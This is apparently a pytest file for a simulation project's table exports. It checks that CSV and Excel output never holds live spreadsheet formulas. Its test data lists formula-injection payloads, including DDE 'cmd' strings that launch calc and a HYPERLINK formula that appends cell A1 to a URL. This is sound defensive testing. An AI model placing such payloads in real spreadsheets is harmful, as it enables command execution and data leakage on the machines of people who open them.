"""Tables that a spreadsheet opens hold no live formula, whoever wrote them, and say the same as before to our own readers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from comity.explorer.downloads import download
from experiments.compare.report import write_tables
from experiments.kit.folders.tables import csv_text, save_csv, without_formulas, workbook
from simulation.inputs.policy import Policy
from simulation.inputs.scenario.scenario import Scenario, load_scenario
from simulation.inputs.table_cells import live, plain_cell, read_cell
from tests.comity.explorer.explorations import exploration
from tests.experiments.compare.test_report import finished

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\r=1+1",
    "＝1+1",
    "＋1",
    "＠a",
)
TEXTS = ("", "liaison", "a=b", "'quoted'", "–", "-0.5", "+3", "-1e-3", "1-2", "50 %", "it's")


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text_wherever_it_stands(text: str) -> None:
    table = pd.DataFrame(
        {text: [text, "b"], "n": [1.5, -2.5], "kind": pd.Categorical([text, "c"])}, index=pd.Index([text, "i"], name=text)
    )
    before = table.copy(deep=True)
    found = cells(csv_text(table))
    assert not [cell for cell in found if live(cell)]
    assert {read_cell(cell) for cell in found} >= {text.replace("\r", "\n"), "b", "c", "1.5", "-2.5", "i"}
    pd.testing.assert_frame_equal(table, before)
    several = table.set_index(["kind"], append=True)
    assert not [cell for cell in cells(csv_text(several)) if live(cell)]
    twice = pd.concat([table, table], axis=1)
    assert without_formulas(twice).shape == twice.shape


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_and_numbers_stay_as_they_are(text: str) -> None:
    table = pd.DataFrame({"name": [text, None], "n": [1, -2]})
    assert csv_text(table, index=False) == table.to_csv(index=False)


@pytest.mark.parametrize("text", [*FORMULAS, *TEXTS, "'=1+1", "''=1+1", "'-x"])
def test_what_is_marked_is_read_back_as_it_was(text: str) -> None:
    assert read_cell(plain_cell(text)) == text.replace("\r", "\n")
    assert not live(plain_cell(text))


def test_a_workbook_holds_texts_exactly_and_no_formula(tmp_path: Path) -> None:
    texts = [text for text in (*FORMULAS, *TEXTS) if text]
    with workbook(tmp_path / "t.xlsx") as book:
        pd.DataFrame({"=A1": texts, "n": range(len(texts))}).to_excel(book, sheet_name="one", index=False)
    page = openpyxl.load_workbook(tmp_path / "t.xlsx")["one"]
    assert [cell.value for cell in page["A"]] == ["=A1", *(text.replace("\r", "\n") for text in texts)]
    assert {cell.data_type for cell in page["A"]} == {"s"}
    assert [cell.value for cell in page["B"]][1:] == list(range(len(texts)))


def spreadsheets(folder: Path) -> list[str]:
    """Live cells of all tables in a folder."""
    found = [f"{path.name}: {cell}" for path in folder.rglob("*.csv") for cell in cells(path.read_text("utf-8")) if live(cell)]
    for path in folder.rglob("*.xlsx"):
        for page in openpyxl.load_workbook(path):
            found += [f"{path.name} {cell.coordinate}" for row in page.iter_rows() for cell in row if cell.data_type == "f"]
    return found


def test_a_policy_with_the_name_of_a_formula_is_a_name_in_a_comparison(tmp_path: Path) -> None:
    done = finished()
    for table in (done.table, done.runs):
        table["policy"] = table["policy"].astype(str).replace("liaison", "=1+1")
    write_tables(done, tmp_path)
    assert not spreadsheets(tmp_path)
    assert "'=1+1" in cells((tmp_path / "comparison.csv").read_text("utf-8"))
    assert "=1+1" in set(pd.read_excel(tmp_path / "comparison.xlsx", sheet_name="runs")["policy"])
    assert "=1+1" in set(pd.read_parquet(tmp_path / "runs.parquet")["policy"])


def test_a_policy_with_the_name_of_a_formula_is_a_name_in_the_explorer(tmp_path: Path) -> None:
    made = exploration()
    made.load("a", Policy.of("=1+1", {"liaison_channels": 0.5}, title="@SUM(1)").to_toml(), "p.toml")
    assert made.bands.wait()
    for kind in ("data.csv", "data.xlsx"):
        (tmp_path / kind).write_bytes(download(made, kind, ("stability",)).content)
    made.close()
    assert not spreadsheets(tmp_path)
    assert "'=1+1" in cells((tmp_path / "data.csv").read_text("utf-8"))


def test_a_scenario_with_the_name_of_a_formula_reads_back_equal(tmp_path: Path) -> None:
    scene = load_scenario("kesara")
    first = scene.regions[0]
    changed = scene.replace(regions=[first.model_copy(update={"source": "=1+1"}), *scene.regions[1:]])
    changed.to_folder(tmp_path / "mine")
    assert not spreadsheets(tmp_path)
    assert Scenario.from_folder(tmp_path / "mine").regions[0].source == "=1+1"


def test_a_table_is_saved_under_the_name_given(tmp_path: Path) -> None:
    save_csv(pd.DataFrame({"a": ["=1"]}), tmp_path / "t.csv", index=False)
    assert (tmp_path / "t.csv").read_text() == "a\n'=1\n"
